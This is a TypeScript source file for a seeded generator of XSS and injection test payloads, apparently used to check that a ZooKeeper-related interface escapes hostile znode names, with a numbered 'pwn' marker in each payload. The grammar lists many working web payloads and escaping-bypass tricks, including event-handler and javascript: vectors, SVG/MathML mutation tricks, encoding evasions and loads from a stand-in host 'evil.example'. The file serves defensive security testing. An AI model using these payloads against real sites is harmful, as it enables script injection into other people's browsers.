// Hostile texts without end, from a grammar and a seed: each carries a call of `pwn` with its own number, so that one that
// runs says which it was, and one that is shown is found by it.

/** Numbers from a seed; the same ones every time (mulberry32). */
export class Dice {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  below(end: number): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(this.state ^ (this.state >>> 15), this.state | 1);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % end;
  }

  pick<T>(...choices: readonly T[]): T {
    return choices[this.below(choices.length)]!;
  }
}

type Rule = (dice: Dice, call: string) => string;

const ELSEWHERE = '//evil.example/';
const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'OnErRoR'];
const SPACES = [' ', '\t', '\n', '\f', '/', '\u00a0'];
const QUOTES = ['"', "'", '`', ''];
const HIDDEN = ['\u202e', '\u202d', '\u2066', '\u2069', '\u200b', '\u200f', '\ufeff', '\u00ad', '\u2060', '\u061c', '\u115f', '\u{e0041}'];
const CONTROLS = ['\u0000', '\u0007', '\u0008', '\u001b[2J', '\u001b]0;x\u0007', '\u007f', '\u0085', '\u2028', '\u2029', '\r\n'];
const ENDS = ['</script>', '</style>', '</title>', '</textarea>', '</noscript>', '</template>', '-->', '--!>', ']]>', '?>', '</svg>', '</table>', '</dialog>', '</form>'];

const event: Rule = (dice, call) => {
  const quote = dice.pick(...QUOTES);
  return `${dice.pick(...EVENTS)}=${quote}${call}${quote}`;
};

const url: Rule = (dice, call) =>
  dice.pick(
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    ` javascript:${call}`,
    `java\tscript:${call}`,
    `\u0001javascript:${call}`,
    `javascript&colon;${call}`,
    `vbscript:${call}`,
    `data:text/html,<script>${call}</script>`,
    `data:image/svg+xml,<svg onload=${call}>`,
    `${ELSEWHERE}${call}`,
    `https:${ELSEWHERE}${call}`,
    `\\\\evil.example\\${call}`,
  );

const tag: Rule = (dice, call) => {
  const space = dice.pick(...SPACES);
  const of = (name: string, attribute: string) => `<${name}${space}${attribute}=${call}>`;
  return dice.pick(
    () => `<img${space}src=x ${event(dice, call)}>`,
    () => `<img src=${ELSEWHERE}${call}>`,
    () => of('body', dice.pick(...EVENTS)),
    () => `<details open ${event(dice, call)}>`,
    () => `<input autofocus ${event(dice, call)}>`,
    () => `<iframe src="${url(dice, call)}">`,
    () => `<iframe srcdoc="<script>${call}</script>">`,
    () => `<object data="${url(dice, call)}">`,
    () => `<embed src=${url(dice, call)}>`,
    () => `<a href="${url(dice, call)}">a</a>`,
    () => `<form action=${url(dice, call)}><button>`,
    () => `<base href=${ELSEWHERE}${call}>`,
    () => `<link rel=stylesheet href=${ELSEWHERE}${call}>`,
    () => `<meta http-equiv=refresh content="0;url=${url(dice, call)}">`,
    () => `<${dice.pick('video', 'audio')} src=x ${event(dice, call)}>`,
    () => `<${dice.pick('SCRIPT', 'script', 'sCrIpT')}>${call}</script>`,
    () => `<script src=${ELSEWHERE}${call}></script>`,
    () => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
    () => `<isindex type=image src=1 onerror=${call}>`,
    () => `<marquee onstart=${call}>`,
  )();
};

const foreign: Rule = (dice, call) =>
  dice.pick(
    `<svg onload=${call}>`,
    `<svg/onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><animate onbegin=${call} attributeName=x>`,
    `<svg><a xlink:href="javascript:${call}"><text>a`,
    `<svg><use href="data:image/svg+xml,${call}">`,
    `<svg><foreignObject><img src=x onerror=${call}>`,
    `<svg><style><img src=x onerror=${call}>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
    `<math href="javascript:${call}">a`,
    `<math><annotation-xml encoding="text/html"><img src onerror=${call}>`,
  );

const attribute: Rule = (dice, call) => {
  const close = dice.pick('"', "'", '`', '" ', "' ", '">', "'>", '"/>', '&quot;>', '\\">');
  return `${close}${dice.pick<Rule>(event, tag, foreign)(dice, call)}${dice.pick('', ' x="', " x='", '<!--')}`;
};

const entity: Rule = (dice, call) =>
  dice.pick(
    `&lt;img src=x onerror=${call}&gt;`,
    `&#60;script&#62;${call}&#60;&#47;script&#62;`,
    `&#x3c;svg onload=${call}&#x3e;`,
    `&amp;lt;script&amp;gt;${call}`,
    `%3Cscript%3E${call}%3C%2Fscript%3E`,
    `\\u003cscript\\u003e${call}`,
    `\\x3cscript\\x3e${call}`,
    `+ADw-script+AD4-${call}`,
    `\uff1cscript\uff1e${call}`,
    `<\u017fcript>${call}<\u002fscript>`,
    `&NewLine;&Tab;&nbsp;${call}`,
    `\u00bcscript\u00be${call}`,
    `<scr\u200bipt>${call}`,
    `&#0;&#xd800;&#x110000;${call}`,
  );

const template: Rule = (dice, call) =>
  dice.pick(
    `{{${call}}}`,
    `{{constructor.constructor('${call}')()}}`,
    `{{#with this}}{{${call}}}{{/with}}`,
    `\${${call}}`,
    `#{${call}}`,
    `<%= ${call} %>`,
    `{% ${call} %}`,
    `[[${call}]]`,
    `@{${call}}`,
    `{!! ${call} !!}`,
    `<?php ${call} ?>`,
    `\`\${${call}}\``,
    `<!--#exec cmd="${call}"-->`,
  );

const css: Rule = (dice, call) =>
  dice.pick(
    `}*{display:none}/*${call}*/`,
    `;background:url(${ELSEWHERE}${call})`,
    `</style><style>@import "${ELSEWHERE}${call}";`,
    `<style>*{background:url(${ELSEWHERE}${call})}</style>`,
    `expression(${call})`,
    `" style="position:fixed;inset:0" data-x="${call}`,
    `x:${call};-moz-binding:url(${ELSEWHERE})`,
    `[data-lock^="${call}`,
    `"]{color:red}[x="${call}`,
  );

const end: Rule = (dice, call) => {
  const begin = `${dice.pick(...ENDS)}${dice.pick('', ...ENDS)}`;
  return `${begin}${dice.pick<Rule>(tag, foreign, (_, only) => `<script>${only}//`)(dice, call)}${dice.pick('', '<!--', '<![CDATA[')}`;
};

const json: Rule = (dice, call) =>
  dice.pick(
    `"}];${call};//`,
    `\\";${call};//`,
    `{"host":"<img src=x onerror=${call}>"}`,
    `{"id":"\\u003cimg src=x onerror=${call}\\u003e"}`,
    `{"__proto__":{"x":"${call}"}}`,
    `["</script><script>${call}</script>"]`,
    `';${call};'`,
    `\u2028${call}\u2029`,
    `null;${call}`,
    `*/${call}/*`,
  );

const hidden: Rule = (dice, call) => {
  const some = () => Array.from({ length: 1 + dice.below(4) }, () => dice.pick(...HIDDEN)).join('');
  return `${some()}${dice.pick(call, `<b onclick=${call}>`, `gnp.${call}.exe`)}${some()}`;
};

const control: Rule = (dice, call) => `a${dice.pick(...CONTROLS)}${dice.pick('', '<img src=x ')}${dice.pick(...CONTROLS)}onerror=${call}>`;

const long: Rule = (dice, call) => {
  const bit = dice.pick('A', '<b>', '&amp;', '\u{1f512}', '\u0301', '<div>', '((((', '\u202e', '主');
  return `${call}${dice.pick('"', '', '">')}${bit.repeat(40 + dice.below(180))}${dice.pick<Rule>(tag, foreign)(dice, call)}`;
};

const RULES: readonly Rule[] = [tag, tag, foreign, attribute, attribute, (...all) => url(...all), entity, template, css, end, end, json, hidden, control, long];

export type Payload = { number: number; text: string };

/** The call in each payload, and what finds it in a text. */
const callOf = (number: number): string => `pwn(${number})`;
export const CALLS = /pwn\((\d+)\)/g;

export class Payloads {
  /** How many were made. */
  made = 0;
  private readonly dice: Dice;
  private readonly seen = new Set<string>();

  constructor(seed: number) {
    this.dice = new Dice(seed);
  }

  /** New ones that fit. */
  some(count: number, fits: (text: string) => boolean = () => true): Payload[] {
    return Array.from({ length: count }, () => this.one(fits));
  }

  private one(fits: (text: string) => boolean): Payload {
    const number = 1_000 + this.made;
    for (;;) {
      const rule = this.dice.pick(...RULES);
      const text = rule(this.dice, callOf(number));
      if (!fits(text) || this.seen.has(text)) continue;
      this.made += 1;
      this.seen.add(text);
      return { number, text };
    }
  }
}

/** ZooKeeper takes it as the name of a znode. */
export function isName(text: string): boolean {
  return !/[\u0000-\u001f\u007f-\u009f\ud800-\uf8ff\ufff0-\uffff/]/.test(text);
}

/** Its number is still to be read where it is shortened in its middle. */
export function survives(text: string, chars: number): boolean {
  const all = [...text];
  const half = Math.floor(chars / 2) - 1;
  const short = all.length <= chars - 2 ? text : `${all.slice(0, half).join('')}…${all.slice(-half).join('')}`;
  return /pwn\(\d+\)/.test(short);
}
